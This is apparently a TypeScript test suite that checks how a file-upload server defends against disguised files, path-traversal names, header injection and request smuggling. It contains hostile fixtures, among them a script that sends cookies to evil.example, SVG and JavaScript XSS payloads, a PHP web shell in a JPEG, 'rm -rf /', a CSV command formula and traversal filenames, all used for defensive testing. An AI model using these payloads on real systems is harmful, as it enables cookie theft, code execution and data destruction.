import { once } from "node:events";
import { existsSync, readdirSync, statSync } from "node:fs";
import { connect } from "node:net";
import { join } from "node:path";
import { getRequestListener } from "@hono/node-server";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { createTestServer, type TestServer, type TestVisitor } from "../../test/test-server.ts";
import { close, listen } from "../main.ts";
import { createPatientServer, patienceFor } from "../patient-server.ts";

/*
 * Files made to be taken for something they are not (promise P28). What is taken is handed out as bytes
 * to be saved, of a kind no browser runs, under a name that leads nowhere; everything else is refused and
 * leaves nothing behind.
 */

let server: TestServer;
let visitor: TestVisitor;
beforeAll(async () => {
  server = await createTestServer({ flags: { "max-file-bytes": "100000" } });
  visitor = await server.visitor();
});
afterAll(() => server.stop());

const latin = (text: string) => new Uint8Array(Buffer.from(text, "latin1"));
const utf8 = (text: string) => new Uint8Array(Buffer.from(text));
const joined = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));
const png = new Uint8Array(
  Buffer.from(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
    "base64",
  ),
);
const PAGE = "<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>";
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>1</script></svg>';
const jpegHead = "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00";
const utf16 = (text: string) =>
  new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]));

/** The only kinds that are ever told to a browser. */
const HARMLESS =
  /^(image\/(png|apng|jpeg|webp|gif|heic|heif|avif)|application\/pdf|video\/(mp4|webm|quicktime)|audio\/(mpeg|mp4|x-m4a|webm|ogg|wav)|text\/plain; charset=utf-8)$/;

function upload(name: string, raw: Uint8Array<ArrayBuffer>, more: Record<string, string> = {}) {
  const fileId = server.id();
  const query = new URLSearchParams({ name, conversationId: server.id() });
  return {
    fileId,
    answer: server.call(`/files/${fileId}?${query}`, {
      method: "PUT",
      token: visitor.token,
      key: server.id(),
      raw,
      headers: more,
    }),
  };
}
const download = (fileId: string) =>
  server.app.request(`/v1/sites/demo/files/${fileId}`, {
    headers: { authorization: `Bearer ${visitor.token}` },
  });
function stored(name: "demo" | ".incoming"): string[] {
  const folder = join(server.deps.settings.data, "files", name);
  return existsSync(folder) ? readdirSync(folder).toSorted() : [];
}
/** What was taken. */
const onDisk = () => stored("demo");

describe("[P28] refused, whatever it is called and says it is", () => {
  test.for([
    ["a page", PAGE, "page.html"],
    ["a page called a picture", PAGE, "photo.png"],
    ["a page called text", "\u0000<html>", "notes.txt"],
    ["a page with a byte order mark", `\ufeff${PAGE}`, "photo.jpg"],
    ["a page behind spaces", `${" ".repeat(300)}${PAGE}`, "photo.gif"],
    ["a page in UTF-16", utf16(PAGE), "notes.txt"],
    ["a page in UTF-7", utf16("+ADw-script+AD4-"), "notes.txt"],
    ["XHTML", `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>`, "a.xhtml"],
    ["SVG", SVG, "logo.svg"],
    ["SVG called PNG", SVG, "logo.png"],
    ["SVG behind an XML head", `<?xml version="1.0"?>${SVG}`, "logo.png"],
    ["SVG behind a comment", `<!-- ${"x".repeat(600)} -->${SVG}`, "logo.webp"],
    ["packed SVG", latin("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"), "logo.svgz"],
    ["a script", "alert(1)", "a.js"],
    ["a script called a picture", "alert(1)", "a.png"],
    ["a style sheet", "*{background:url(//evil.example)}", "a.css"],
    ["a shell script", "#!/bin/sh\nrm -rf /", "run.sh"],
    ["a Windows program", latin("MZ\x90\x00\x03\x00\x00\x00\x04\x00"), "setup.png"],
    ["a Linux program", latin("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00"), "photo.jpg"],
    ["a Java class", latin("\xca\xfe\xba\xbe\x00\x00\x00\x34"), "a.png"],
    ["WebAssembly", latin("\x00asm\x01\x00\x00\x00"), "a.png"],
    ["an archive", latin("PK\x03\x04\x14\x00\x00\x00\x08\x00"), "files.zip"],
    ["an archive called a picture", latin("PK\x03\x04\x14\x00\x00\x00\x08\x00"), "photo.png"],
    ["a document with macros", latin("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), "a.doc"],
    ["RTF", "{\\rtf1\\ansi{\\object\\objdata}}", "a.rtf"],
    ["PostScript", "%!PS-Adobe-3.0\n(/etc/passwd) (r) file", "a.png"],
    ["ImageMagick's own", 'push graphic-context\nfill "url(https://evil)"', "a.mvg"],
    ["Flash", latin("CWS\x09\x00\x00\x00\x00"), "a.gif"],
    ["an old bitmap", latin("BM\x3a\x00\x00\x00\x00\x00"), "a.bmp"],
    ["a TIFF", latin("II\x2a\x00\x08\x00\x00\x00"), "a.tiff"],
    ["half a PNG head", latin("\x89PNG"), "a.png"],
    ["a PNG head after one byte", joined(latin("x"), png), "a.png"],
    ["text with control characters", "a\u0007b\u001b[31m", "a.txt"],
    ["text that is no UTF-8", latin("caf\xe9 \xff\xfe"), "a.txt"],
    ["text without a known ending", "hello", "hello"],
    ["text called a picture", "hello", "hello.png"],
  ] as const)("%s", async ([, content, name]) => {
    const before = onDisk();
    const bytes = typeof content === "string" ? utf8(content) : content;
    for (const type of ["image/png", "text/html", "application/octet-stream"]) {
      const { answer, fileId } = upload(name, bytes, { "content-type": type });
      const { status, problem } = await answer;
      expect([status, problem.code]).toEqual([415, "file_type_not_allowed"]);
      expect((await download(fileId)).status).toBe(404);
    }
    expect(onDisk()).toEqual(before);
  });
});

describe("[P28] taken, and handed out as what runs nowhere", () => {
  test.for([
    ["a page behind a whole picture", joined(png, utf8(PAGE)), "photo.png", "image/png"],
    ["a page in a GIF", latin(`GIF89a\x01\x00\x01\x00${PAGE}`), "photo.gif", "image/gif"],
    ["a script that is a GIF", latin("GIF89a/*\x00\x00*/=1;alert(1)"), "a.gif", "image/gif"],
    ["PHP in a JPEG", latin(`${jpegHead}<?php system($_GET[0]); ?>`), "a.php.jpg", "image/jpeg"],
    ["a page in a JPEG called one", latin(jpegHead + PAGE), "photo.html", "image/jpeg"],
    [
      "a PDF with a script",
      latin(`%PDF-1.7\n/OpenAction<</JS(app.alert(1))>>`),
      "a.pdf",
      "application/pdf",
    ],
    ["a PDF called a page", latin(`%PDF-1.7\n${PAGE}`), "a.html", "application/pdf"],
    ["an archive behind a picture", joined(png, latin("PK\x03\x04")), "a.png", "image/png"],
    ["a page as text", utf8(PAGE), "page.txt", "text/plain; charset=utf-8"],
    ["SVG as text", utf8(SVG), "logo.svg.txt", "text/plain; charset=utf-8"],
    ["a formula", utf8('=cmd|" /C calc"!A0'), "list.csv", "text/plain; charset=utf-8"],
  ] as const)("%s", async ([, bytes, name, type]) => {
    const before = onDisk();
    const { answer, fileId } = upload(name, bytes, { "content-type": "text/html" });
    expect((await answer).status).toBe(200);
    // On the disk it is an id: no name of anyone's, no ending that a web server would run.
    const added = onDisk().filter((one) => !before.includes(one));
    expect(added.filter((one) => one.includes(fileId))).toEqual([fileId]);
    const { status, headers } = await download(fileId);
    expect(status).toBe(200);
    expect(headers.get("content-type")).toBe(type);
    expect(headers.get("content-type")).toMatch(HARMLESS);
    expect(headers.get("content-disposition")).toMatch(/^attachment; filename="[\x20-\x7e]*"; /);
    expect(headers.get("content-disposition")).not.toMatch(/\.(html?|svg|php|js)"/);
    expect(headers.get("x-content-type-options")).toBe("nosniff");
    expect(headers.get("content-security-policy")).toBe("default-src 'none'; sandbox");
    expect(headers.get("cache-control")).toBe("private, no-store");
  });
});

describe("[P28] a name leads nowhere and hides nothing", () => {
  test.for([
    "../../../../etc/passwd.png",
    "..%2f..%2fsecret.key",
    "..\\..\\boot.png",
    "%2e%2e%2fa.png",
    "/etc/cron.d/a.png",
    "C:\\Windows\\System32\\a.png",
    "a.png\u0000.html",
    "photo\u202egnp.exe",
    "photo\u2066.png\u2069.html",
    "a.png\r\nContent-Type: text/html\r\n\r\n<script>",
    'a".png"; filename="b.html',
    "a.png;.html",
    ".htaccess",
    "....",
    "con.png",
    `${"长".repeat(199)}`,
  ])("%j", async (name) => {
    const before = onDisk();
    const { answer, fileId } = upload(name, png);
    expect((await answer).status).toBe(200);
    expect(
      onDisk()
        .filter((one) => !before.includes(one))
        .at(-1),
    ).toBe(fileId);
    const { headers } = await download(fileId);
    const told = headers.get("content-disposition") ?? "";
    const [, plain = "", full = ""] =
      /^attachment; filename="([^"\\/]*)"; filename\*=UTF-8''([^;\s]+)$/.exec(told) ?? [];
    expect(plain).toMatch(/\.a?png$/i);
    expect(decodeURIComponent(full)).toMatch(/^[^.].*\.a?png$/i);
    expect(decodeURIComponent(full)).not.toMatch(/[/\\\p{Cc}\p{Cf}]/u);
    expect(headers.get("content-type")).toBe("image/png");
  });

  test("of its id neither: what is no id is no file", async () => {
    for (const id of ["..%2f..%2fsecret.key", "%00", "..", `${server.id()}%2f..`]) {
      const { status } = await server.app.request(`/v1/sites/demo/files/${id}`, {
        headers: { authorization: `Bearer ${visitor.token}` },
      });
      expect(status).toBeGreaterThanOrEqual(400);
      expect(status).toBeLessThan(500);
    }
  });
});

describe("[P28] a length that lies", () => {
  let http: ReturnType<typeof createPatientServer>;
  let port: number;
  beforeAll(async () => {
    const patience = { ...patienceFor(100_000), words: 500, file: 1_500 };
    http = createPatientServer(getRequestListener(server.app.fetch), patience);
    port = await listen(http, { host: "127.0.0.1", port: 0 });
  });
  afterAll(() => close(http));

  /** Sends a request as it stands; what came back. */
  async function raw(
    head: readonly string[],
    body: Uint8Array,
    { isEnd = false, fileId = server.id() } = {},
  ): Promise<string> {
    const socket = connect(port, "127.0.0.1");
    await once(socket, "connect");
    let answer = "";
    socket.on("data", (chunk: Buffer) => (answer += chunk.toString("latin1")));
    socket.on("error", () => {});
    const closed = new Promise<void>((resolve) => socket.on("close", () => resolve()));
    const path = `/v1/sites/demo/files/${fileId}?name=a.png&conversationId=${server.id()}`;
    const own = `Authorization: Bearer ${visitor.token}\r\nIdempotency-Key: ${server.id()}`;
    socket.write(`PUT ${path} HTTP/1.1\r\nHost: x\r\n${own}\r\n${head.join("\r\n")}\r\n\r\n`);
    socket.write(body);
    if (isEnd) socket.end();
    await closed;
    return answer;
  }

  test("longer than what comes: cut, and nothing of it is kept", async () => {
    const before = onDisk();
    await raw(["Content-Length: 5000"], png, { isEnd: true });
    await expect.poll(onDisk).toEqual(before);
  });

  test("shorter: what is over is no part of it, and no request of its own that is answered", async () => {
    const smuggled = latin("GET /v1/openapi.json HTTP/1.1\r\nHost: x\r\n\r\n");
    const head = [`Content-Length: ${png.byteLength}`, "Connection: close"];
    const fileId = server.id();
    const answer = await raw(head, joined(png, smuggled), { fileId });
    expect(answer.match(/HTTP\/1\.1 /g)).toHaveLength(1);
    expect(answer).not.toContain("openapi");
    const path = join(server.deps.settings.data, "files/demo", fileId);
    await expect.poll(() => existsSync(path)).toBe(true);
    expect(statSync(path).size).toBe(png.byteLength);
  });

  test.for([
    ["two lengths", ["Content-Length: 5", "Content-Length: 500"]],
    ["a length and chunks", ["Content-Length: 5", "Transfer-Encoding: chunked"]],
    ["less than nothing", ["Content-Length: -1"]],
    ["no number", ["Content-Length: 0x10"]],
    ["chunks in disguise", ["Transfer-Encoding: xchunked"]],
  ] as const)("%s: refused, and nothing of it is kept", async ([, head]) => {
    const before = onDisk();
    expect(await raw(head, png)).toMatch(/^HTTP\/1\.1 400 /);
    await expect.poll(onDisk).toEqual(before);
  });

  test("none, and chunks without end: cut at the limit", async () => {
    const before = onDisk();
    const chunk = `4000\r\n${"a".repeat(0x4000)}\r\n`;
    const answer = await raw(["Transfer-Encoding: chunked"], latin(chunk.repeat(40)));
    expect(answer).toMatch(/^HTTP\/1\.1 413 /);
    expect(answer).toMatch(/connection: close/i);
    await expect.poll(onDisk).toEqual(before);
  });

  test("and nothing is left half-way", async () => {
    await expect.poll(() => stored(".incoming")).toEqual([]);
  });

  test("0 bytes are no file", async () => {
    const { answer } = upload("a.png", new Uint8Array());
    expect((await answer).problem.issues).toEqual([{ path: "body", code: "required" }]);
  });
});
